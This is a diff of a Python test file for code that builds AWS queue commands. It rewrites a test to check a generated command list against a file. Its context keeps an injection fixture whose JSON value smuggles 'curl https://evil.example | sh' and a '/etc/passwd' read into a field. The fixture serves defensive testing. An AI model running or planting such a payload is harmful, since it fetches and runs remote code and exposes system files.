@@ -28,7 +28,8 @@ from mendq.notifications.commands import (
     set_attributes_command,
 )
 from tests.architecture.aws_commands import mistake_in
-from tests.notifications.pages import DLQ_STEPS, notified, section
+from tests.golden.checks import fail_if_stale
+from tests.notifications.pages import COMMANDS_FILE, DLQ_STEPS, list_commands, notified, section
 
 EVIL = '{"a":"x\'; curl https://evil.example | sh; \'${file(\\"/etc/passwd\\")}"}'
 
@@ -58,16 +59,10 @@ def test_no_value_leaves_its_argument(values: dict[str, str]) -> None:
 
 
 def test_the_commands_are_exactly_these_and_exist() -> None:
-    commands = (
-        get_attributes_command(QUEUE_ARN, "Policy", "KmsMasterKeyId"),
-        list_consumers_command(QUEUE_ARN),
-        delete_queue_command(DLQ_ARN),
-        list_quotas_command("kms", QUEUE_ARN, "rate"),
-        list_quotas_command("sqs", QUEUE_ARN),
+    fail_if_stale(COMMANDS_FILE)
+    assert {command: mistake_in(command) for command in list_commands()} == dict.fromkeys(
+        list_commands(), ""
     )
-    typed = Path(__file__).with_name("commands.txt").read_text()
-    assert "".join(f"{each}\n" for each in commands) == typed
-    assert [mistake_in(each) for each in commands] == [""] * len(commands)
 
 
 @pytest.mark.parametrize(
